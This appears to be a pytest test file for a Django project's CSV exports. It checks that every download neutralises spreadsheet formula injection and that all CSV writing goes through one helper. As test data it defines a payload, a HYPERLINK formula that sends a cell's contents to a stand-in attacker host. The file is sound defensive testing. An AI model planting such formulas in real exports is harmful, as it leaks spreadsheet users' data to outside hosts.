"""Every CSV the project serves, with a spreadsheet formula in every text column of the database.

The data of the reports, the directory network and a practitioner's sessions are built as in their own
tests; then every free-text column of every model (CharField, TextField, EmailField without choices,
apart from slugs, codes and secrets) and every session's co-hosts are overwritten with a formula. Each CSV
endpoint must then write no cell that a spreadsheet evaluates, and the poison must be seen (so the walk
really reads the poisoned columns). A CSV written anywhere but core/csv.py fails the last test.
"""

import csv
import io
from pathlib import Path

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse

from core.csv import FORMULA_STARTS, csv_text, safe_cell
from registrations.models import Registration
from reporting.tables import TABLE_KEYS
from tests.reporting.conftest import world  # noqa: F401 (a fixture)
from tests.servicemap.conftest import network  # noqa: F401 (a fixture)

ROOT = Path(__file__).resolve().parent.parent
POISON = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PROJECT_APPS = (
    "accounts",
    "events",
    "registrations",
    "referrals",
    "notifications",
    "certificates",
    "networking",
    "reporting",
    "servicemap",
)
NOT_TEXT = ("code", "slug", "token", "hash", "password", "key", "salt", "uid", "zone", "url", "colour")


def _text_fields(model):
    for field in model._meta.concrete_fields:
        if type(field) not in (models.CharField, models.TextField, models.EmailField):
            continue
        if field.primary_key or field.choices or any(word in field.name for word in NOT_TEXT):
            continue
        yield field


def _poison_everything() -> int:
    poisoned = 0
    for label in PROJECT_APPS:
        for model in apps.get_app_config(label).get_models():
            for field in _text_fields(model):
                if field.unique:
                    for pk in model.objects.values_list("pk", flat=True):
                        model.objects.filter(pk=pk).update(**{field.name: f"{POISON}{pk}"[: field.max_length]})
                else:
                    value = POISON[: field.max_length] if field.max_length else POISON
                    poisoned += model.objects.update(**{field.name: value})
    events = apps.get_model("events", "Event")
    for event in events.objects.exclude(cohosts=[]):
        event.cohosts = [f"{POISON}{i}" for i in range(len(event.cohosts))]
        event.save(update_fields=["cohosts"])
    return poisoned


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) > 1, "a header and no data: nothing was walked"
    return [cell for row in rows for cell in row]


@pytest.fixture
def endpoints(world, network, coordinator):  # noqa: F811
    """(name, who, url, query) for every CSV download."""
    attendee = Registration.objects.filter(attendance="attended", user__isnull=False).first().user
    s1 = world["s1"]
    found = [
        ("roster", coordinator, f"/manage/ballarat/events/{s1.pk}/roster/", {"format": "csv"}),
        ("insights", coordinator, reverse("directory-insights-csv", kwargs={"slug": "ballarat"}), {}),
        ("cpd", attendee, "/my/cpd/", {"format": "csv", "start": "2025-01-01", "end": "2025-12-31"}),
    ]
    for key in TABLE_KEYS:
        found.append(
            (
                f"report {key}",
                coordinator,
                reverse("reports-csv", kwargs={"slug": "ballarat", "table": key}),
                {"date_from": "2025-01-01", "date_to": "2025-12-31"},
            )
        )
        found.append(
            (
                f"api report {key}",
                coordinator,
                f"/api/partnerships/ballarat/report/{key}.csv",
                {"date_from": "2025-01-01", "date_to": "2025-12-31"},
            )
        )
    return found


# Tables whose cells are all figures, dates or fixed labels: nothing people typed reaches them.
NO_FREE_TEXT = {"report ratings", "api report ratings", "report practitioners", "api report practitioners"}


def test_every_csv_neutralises_a_formula_in_every_text_column(client, endpoints):
    assert _poison_everything() > 20
    unsafe, unpoisoned = [], []
    for name, who, url, query in endpoints:
        client.force_login(who)
        cells = _cells(client.get(url, query))
        unsafe += [f"{name}: {cell!r}" for cell in cells if cell.startswith(FORMULA_STARTS)]
        if name not in NO_FREE_TEXT and not any(cell.startswith("'" + POISON[:10]) for cell in cells):
            unpoisoned.append(name)
    assert not unsafe, "formulas written raw:\n  " + "\n  ".join(unsafe)
    assert not unpoisoned, f"the poison never reached: {unpoisoned}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"
    assert safe_cell("plain") == "plain"
    # Figures stay figures, negative ones included; None is an empty cell.
    assert safe_cell(-3) == -3
    assert safe_cell(None) == ""
    assert csv_text(["a"], [[f"{start}cmd"]]).splitlines()[1].strip('"').startswith("'")


def test_no_csv_is_written_outside_core_csv():
    writers = []
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in {".venv", "node_modules", "tests", "core", "benchmarks"}:
            continue
        text = path.read_text()
        if "csv.writer" in text or "csv.DictWriter" in text:
            writers.append(str(path.relative_to(ROOT)))
    assert not writers, f"write CSV with core.csv instead: {writers}"
